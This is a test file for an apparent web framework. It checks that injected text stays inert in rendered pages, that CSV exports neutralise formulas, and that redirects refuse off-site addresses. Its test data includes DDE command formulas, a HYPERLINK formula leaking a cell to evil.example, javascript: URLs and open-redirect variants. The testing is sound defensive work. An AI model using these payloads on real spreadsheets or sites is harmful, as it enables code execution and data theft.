/** Row 27 of the attacks: strings that would like to be markup, script or formulas stay text, wherever they come from and go to. */
import { For } from "solid-js";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { Title, use } from "../../src/client/index.ts";
import { csvOf } from "../../src/csv/write.ts";
import { csvRecords } from "../../src/csv/index.ts";
import { toCsv as toTableCsv } from "../../src/ui/data/table/csv.ts";
import { toCsv as toChartCsv } from "../../src/charts/data/csv.ts";
import { Failure, redirect } from "../../src/state/index.ts";
import { Callout, DataTable, Select, StatCard, TextArea, TextField } from "../../src/ui/index.tsx";
import { BOOT_ELEMENT } from "../../src/wire/boot.ts";
import { parse } from "../../src/wire/values.ts";
import { Links } from "../server/fixtures/app/states/links.state.ts";
import { serve } from "../server/harness.ts";
import { HOSTILE } from "./hostile.ts";

// It comes without types.
const { JSDOM } = await import("jsdom" as string) as { JSDOM: new (html: string) => { window: { document: Document } } };

/** A value of the query string, in every place that a page puts text. */
const everywhere = {
  page: { title: "Plain" },
  default: () => {
    const links = use(Links);
    const text = (): string => links.text;
    return (
      <main title={text()} class={text()} id={text()} data-x={text()} aria-label={text()} style={{ "background-image": text(), "--x": text() }}>
        <Title>{text()}</Title>
        <p class="plain">{text()}</p>
        <a class="link" href={text()}>link</a>
        <img alt={text()} src={`/x?${encodeURIComponent(text().toWellFormed())}`} />
        <input value={text()} placeholder={text()} /><textarea>{text()}</textarea>
        <select><option value={text()} label={text()}>{text()}</option></select>
        <For each={[text()]}>{(one) => <li class="row">{one}</li>}</For>
        <TextField label={text()} value={text()} description={text()} error={text()} /><TextArea label={text()} value={text()} />
        <Select label={text()} options={[text()]} value={text()} /><Callout title={text()}>{text()}</Callout>
        <StatCard label={text()} value={1} /><DataTable rows={[{ id: text(), name: text() }]} />
      </main>
    );
  },
};
const failing = { page: { title: "Failing" }, default: () => { throw new Failure(decodeURIComponent(failure), { code: "closed" }); } };
let failure = "";

/** What a parser makes of the page, as a browser's would. */
function read(html: string): { document: Document; boot: unknown } {
  const { document } = new JSDOM(html).window;
  return { document, boot: parse(document.getElementById(BOOT_ELEMENT)!.textContent!) };
}
const allElements = (document: Document): Element[] => [...document.querySelectorAll("*")];

function expectInert(document: Document, scripts: number): void {
  expect(document.querySelectorAll("script")).toHaveLength(scripts);
  expect(document.querySelectorAll("iframe, base, object, embed, meta[http-equiv], math, foreignObject, link[rel=import]")).toHaveLength(0);
  for (const element of allElements(document)) for (const { name } of element.attributes) expect(name).not.toMatch(/^on/i);
  for (const script of document.querySelectorAll("script:not([type='application/json'])")) expect(script.getAttribute("nonce")).toBeTruthy();
}

describe("row 27: in HTML that the server has rendered", () => {
  test.each(HOSTILE)("row 27: %j in text, attributes, styles, titles and components", async (text) => {
    const server = await serve({ "/": everywhere });
    const answer = await server.get(`/?text=${encodeURIComponent(text.toWellFormed())}`);
    expect(answer.status).toBe(200);
    const { document, boot } = read(answer.text);
    expectInert(document, 4);
    const shown = text.toWellFormed().replaceAll("\u0000", "\ufffd");
    expect((boot as { slots: [[number, string, unknown, Record<number, unknown>]] }).slots[0][3][0]).toBe(text.toWellFormed());
    if (!text.includes("\u0000")) {
      expect(document.querySelector("p.plain")!.textContent).toBe(shown);
      expect(document.querySelector("main")!.getAttribute("title")).toBe(shown);
      expect(document.querySelector("textarea")!.value.trim()).toBe(shown.trim());
    }
    // A script's address in a link is the author's to write; the page's policy runs none.
    expect(answer.headers.get("content-security-policy")).toMatch(/script-src 'self' 'nonce-[\w-]+';/);
    expect(answer.text).not.toMatch(/[\u2028\u2029](?=[^<]*<\/script>)/);
  });

  test.each(HOSTILE)("row 27: %j in the words of a failure", async (text) => {
    failure = encodeURIComponent(text.toWellFormed());
    const answer = await (await serve({ "/": failing })).get("/");
    const { document } = read(answer.text);
    expectInert(document, 4);
  });

  test.each(HOSTILE)("row 27: %j in a path, a language, a time zone and a cookie", async (text) => {
    const server = await serve({ "/": everywhere });
    const plain = encodeURIComponent(text.toWellFormed());
    const answer = await server.get(`/${plain}`, { headers: { "accept-language": plain, cookie: `solenoid-locale=${plain}; solenoid-time-zone=${plain}; solenoid-session=${plain}` } });
    expect([400, 404]).toContain(answer.status);
    if (answer.text.startsWith("<!doctype")) expectInert(read(answer.text).document, 4);
  });
});

describe("row 27: in tables for spreadsheets", () => {
  const FORMULAS = [
    "=cmd", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example?x=\"&A1,\"x\")", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u0000=1+1",
    "\uff1d1+1", "\uff0b1", "\uff20SUM(1)", "\uff0d1", "=1+1\",\"x", "\"=1+1", "'=1+1", ";=1+1", ",=1+1", "=", "-", "+", "@", "-a",
  ];
  const cells = async (text: string): Promise<string[]> => {
    const found: string[] = [];
    for await (const rows of csvRecords(new Blob([text]).stream())) found.push(...rows.flatMap((row) => Object.values(row)));
    return found;
  };
  const writers: [string, (value: unknown) => string | Promise<string>][] = [
    ["csvOf", (value) => csvOf([{ a: 1, value }])],
    ["csvOf in pieces", async (value) => { let text = ""; for await (const piece of csvOf((async function* batches() { yield [{ a: 1, value }]; })())) text += piece; return text; }],
    ["a table's", (value) => toTableCsv([{ a: 1, value }], [{ id: "a", header: "a" }, { id: "value", header: "value" }])],
    ["a chart's", (value) => toChartCsv({ columns: [{ name: "a", number: true }, { name: "value", number: false }], rows: [], raw: [[1, value as string]] })],
  ];
  test.each(writers)("row 27: %s cells are never formulas, and lose nothing", async (_, write) => {
    for (const text of FORMULAS) {
      if (text.includes("\u0000")) continue;                          // no text file has it
      const [, cell = ""] = await cells(await write(text));
      expect(cell, JSON.stringify(text)).not.toMatch(/^[\s\p{Cc}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
      expect([text, `'${text}`]).toContain(cell);
    }
  });

  test("row 27: figures stay figures, dates dates; names of columns are guarded too", async () => {
    expect(csvOf([{ "=x": -5, b: "-5", c: "+1.5e3", d: new Date(0), e: null, f: undefined, g: { a: "=1" }, h: 10n, i: true }])).toBe(
      "\uFEFF'=x,b,c,d,e,f,g,h,i\r\n-5,-5,+1.5e3,1970-01-01T00:00:00.000Z,,,\"{\"\"a\"\":\"\"=1\"\"}\",10,true\r\n");
    expect(csvOf([])).toBe("");
    expect(csvOf([{ a: 1, b: 2 }], ["b"])).toBe("\uFEFFb\r\n2\r\n");
  });

  test("row 27: whatever the text, it comes back as it was, or with an apostrophe before it", async () => {
    await fc.assert(fc.asyncProperty(fc.string({ unit: "binary" }).filter((text) => !text.includes("\u0000") && text.isWellFormed() && text !== "\ufeff"), async (text) => {
      const [, cell = ""] = await cells(csvOf([{ a: "x", value: text }]));
      expect([text, `'${text}`]).toContain(cell);
    }));
  });
});

describe("row 27: addresses that a user has chosen", () => {
  test.each(["//evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/\n/evil.example", "https:evil.example", "https://evil.example", "http://a.invalid/", "http://b.invalid/x", "javascript:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "data:text/html,x", "//evil.example\\@app.example", "///evil.example", "http:/\\evil.example", "\u0000//evil.example", "//[", "blob:x"])("row 27: %j leads nowhere else", (address) => {
    expect(() => redirect(address)).toThrow(expect.objectContaining({ code: "redirect-elsewhere" }));
  });
  test.each(["/", "/orders?x=1#y", "orders", "?x=1", "#y", "/%2f%2fevil.example", "/x//y", "./a", "../a", "/a:b", "/javascript:alert(1)", ""])("row 27: %j stays", (address) => {
    expect(() => redirect(address)).not.toThrow();
  });
  test.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "java\nscript:alert(1)", "blob:x", "//["])("row 27: %j leads nowhere, though other sites may be meant", (address) => {
    expect(() => redirect(address, { external: true })).toThrow(expect.objectContaining({ code: "redirect-elsewhere" }));
  });
  test.each(["https://example.com", "//example.com/x", "mailto:a@example.com", "tel:+49", "/own"])("row 27: %j may be meant", (address) => {
    expect(() => redirect(address, { external: true })).not.toThrow();
  });
});
